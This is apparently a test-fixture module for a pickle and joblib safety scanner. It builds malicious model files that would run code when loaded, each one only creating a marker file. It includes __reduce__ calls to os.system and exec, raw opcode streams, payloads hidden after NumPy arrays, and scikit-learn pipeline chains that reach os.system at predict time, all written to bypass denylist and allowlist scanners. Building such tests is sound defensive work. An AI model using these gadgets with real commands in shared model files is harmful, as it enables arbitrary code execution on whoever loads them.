"""Malicious pickle files for the tests: each would create ``marker`` when unpickled.

They are written the way attackers write them (``__reduce__`` returning a call),
in the forms that bypass denylist scanners: plain pickle, compressed joblib,
``operator.methodcaller`` and ``importlib.import_module`` chains, and a payload
placed after an inline NumPy array (or inside an object array) in a joblib file.
"""

from __future__ import annotations

import builtins
import importlib
import operator
import os
import pickle
from pathlib import Path

import joblib
import numpy as np


class Call:
    """Pickles as ``func(*args)``."""

    def __init__(self, func, *args):
        self.func = func
        self.args = args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):  # pickle wants the reduce callable to be callable
        raise AssertionError("never called in the tests")


def touch_command(marker: Path) -> str:
    return f"touch {marker}"


def os_system(marker: Path) -> Call:
    return Call(os.system, touch_command(marker))


def builtins_exec(marker: Path) -> Call:
    return Call(builtins.exec, f"open({str(marker)!r}, 'w').close()")


def methodcaller_chain(marker: Path) -> Call:
    """``methodcaller('system', cmd)(__import__('os'))``: no os.system global at all."""
    return Call(
        operator.methodcaller("system", touch_command(marker)), Call(builtins.__import__, "os")
    )


def importlib_chain(marker: Path) -> Call:
    """``getattr(importlib.import_module('os'), 'system')(cmd)``."""
    system = Call(builtins.getattr, Call(importlib.import_module, "os"), "system")
    return Call(system, touch_command(marker))


def write_pickle(path: Path, payload) -> Path:
    path.write_bytes(pickle.dumps(payload, protocol=4))
    return path


def write_joblib(path: Path, payload, compress=0) -> Path:
    joblib.dump(payload, path, compress=compress)
    return path


def write_after_inline_array(path: Path, marker: Path) -> Path:
    """A joblib file whose payload comes right after raw NumPy array bytes."""
    joblib.dump([np.arange(1000, dtype=np.float64), os_system(marker)], path)
    return path


def write_in_object_array(path: Path, marker: Path) -> Path:
    """A joblib file whose payload sits in the nested pickle of an object array."""
    array = np.empty(2, dtype=object)
    array[0], array[1] = "benign", builtins_exec(marker)
    joblib.dump(array, path)
    return path


def stack_global_via_memo(marker: Path) -> bytes:
    """``os.system`` named through memoised strings fetched back with BINGET."""
    cmd = touch_command(marker).encode()
    return (
        b"\x80\x04"
        + b"\x8c\x02os\x94"  # SHORT_BINUNICODE 'os', MEMOIZE -> 0
        + b"\x8c\x06system\x94"  # SHORT_BINUNICODE 'system', MEMOIZE -> 1
        + b"00"  # POP POP
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + b"\x8c"
        + bytes([len(cmd)])
        + cmd
        + b"\x85R."  # TUPLE1, REDUCE, STOP
    )


def stack_global_computed(marker: Path) -> bytes:
    """STACK_GLOBAL whose module name is computed (``str('os')``) rather than a literal."""
    cmd = touch_command(marker).encode()
    return (
        b"\x80\x04"
        + b"\x8c\x08builtins\x8c\x03str\x93"  # builtins.str (allowed)
        + b"\x8c\x02os\x85R"  # str('os')
        + b"\x8c\x06system\x93"  # STACK_GLOBAL(str('os'), 'system')
        + b"\x8c"
        + bytes([len(cmd)])
        + cmd
        + b"\x85R."
    )


def scipy_distribution_template(marker: Path) -> bytes:
    """A scipy.stats distribution whose ``__setstate__`` would exec() a template from the pickle."""
    import copy

    import scipy.stats

    distribution = copy.copy(scipy.stats.norm)
    distribution._parse_arg_template = f"open({str(marker)!r}, 'w').close()"
    return pickle.dumps(distribution, protocol=4)


def randomstate_with_custom_constructor(marker: Path) -> bytes:
    """numpy's RandomState pickle helper, told to 'construct' with builtins.exec."""
    from numpy.random import _pickle

    ctor = getattr(_pickle, "__randomstate_ctor")
    return pickle.dumps(
        Call(ctor, f"open({str(marker)!r}, 'w').close()", builtins.exec), protocol=4
    )


def randomstate_with_library_constructor(marker: Path) -> bytes:
    """The same helper trampolining into an allowed library function (numpy.fromstring-like)."""
    from numpy.random import _pickle

    ctor = getattr(_pickle, "__randomstate_ctor")
    return pickle.dumps(Call(ctor, "1,2", np.asarray), protocol=4)


def protocol_0_inst(marker: Path) -> bytes:
    """Protocol 0's INST opcode: ``os.system(cmd)`` with no REDUCE at all."""
    return b"(S'" + touch_command(marker).encode() + b"'\nios\nsystem\n."


def protocol_1_obj(marker: Path) -> bytes:
    """Protocol 1's OBJ opcode calling ``os.system(cmd)``."""
    return b"(cos\nsystem\nS'" + touch_command(marker).encode() + b"'\no."


# -- predict-time chains: every global they name was on the old allowlist ------------
#
# Nothing runs while these load; scikit-learn runs the code when it predicts,
# by calling each FunctionTransformer's ``func(X, **kw_args)`` in turn.


def _step(func, **kw_args):
    from sklearn.preprocessing import FunctionTransformer

    return FunctionTransformer(func, kw_args=kw_args or None)


def _final_step():
    from sklearn.dummy import DummyClassifier

    return DummyClassifier().fit([[0.0, 0.0, 0.0]], [0])


def _to_os_system():
    """Steps from any input to ``os.system``, through getattr-like scikit-learn helpers."""
    from sklearn.utils._array_api import get_namespace
    from sklearn.utils.validation import _check_response_method

    return [
        ("namespace", _step(get_namespace)),  # X -> (array_api_compat.numpy, False)
        ("first", _step(np.take, indices=0)),  # -> the namespace module
        ("f2py", _step(_check_response_method, response_method="f2py")),  # getattr
        ("os", _step(_check_response_method, response_method="os")),
        ("system", _step(_check_response_method, response_method="system")),
    ]


def _pipeline(steps):
    from sklearn.pipeline import Pipeline

    pipeline = Pipeline([*steps, ("model", _final_step())])
    pipeline.steps[0][1].n_features_in_ = 3  # what fitting on 3 columns records
    return pipeline


def vectorize_chain(marker: Path):
    """The chain from issue 15: ... os.system, then numpy.vectorize and its __call__."""
    return _pipeline(
        [
            *_to_os_system(),
            ("vectorize", _step(np.vectorize)),
            ("run", _step(np.vectorize.__call__, command=touch_command(marker))),
        ]
    )


def fromfunction_chain(marker: Path):
    """Another caller: ``numpy.fromfunction(os.system, shape=(), command=...)``."""
    return _pipeline(
        [*_to_os_system(), ("run", _step(np.fromfunction, shape=(), command=touch_command(marker)))]
    )


def check_array_kwdefaults() -> bytes:
    """BUILD on the function ``check_array``: sets its ``__kwdefaults__`` for the whole process."""
    from sklearn.utils.validation import check_array

    patched = dict(check_array.__kwdefaults__, ensure_min_samples=10**9)
    state = pickle.dumps((None, {"__kwdefaults__": patched}), protocol=2)[2:-1]  # no PROTO/STOP
    return b"\x80\x02csklearn.utils.validation\ncheck_array\n" + state + b"b."


def build_on_module() -> bytes:
    """BUILD on a module: rebinds ``sklearn.utils.validation.check_array`` to ``numpy.take``."""
    state = pickle.dumps((None, {"check_array": np.take}), protocol=2)[2:-1]
    return b"\x80\x02csklearn.utils\nvalidation\n" + state + b"b."


def build_on_class() -> bytes:
    """BUILD on a class: replaces ``LogisticRegression.predict`` with ``numpy.take``."""
    state = pickle.dumps((None, {"predict": np.take}), protocol=2)[2:-1]
    return b"\x80\x02csklearn.linear_model\nLogisticRegression\n" + state + b"b."


def attrgetter_chain(marker: Path):
    """Another getattr-like helper: a dotted ``attrgetter`` path in one step.

    ``_get_feature_importances(namespace, getter="f2py.os.system")`` returns
    ``os.system``; ``numpy.fromfunction`` then calls it.
    """
    from sklearn.feature_selection._base import _get_feature_importances

    to_os_system = _to_os_system()[:2] + [
        ("system", _step(_get_feature_importances, getter="f2py.os.system"))
    ]
    return _pipeline(
        [*to_os_system, ("run", _step(np.fromfunction, shape=(), command=touch_command(marker)))]
    )


def wrapfunc_chain(marker: Path):
    """A helper that looks a method up by name *and* calls it: numpy's ``_wrapfunc``.

    ``_wrapfunc(os, method="system", command=...)`` is ``os.system(command=...)``.
    """
    from numpy._core.fromnumeric import _wrapfunc

    to_os = _to_os_system()[:4]
    return _pipeline(
        [*to_os, ("run", _step(_wrapfunc, method="system", command=touch_command(marker)))]
    )
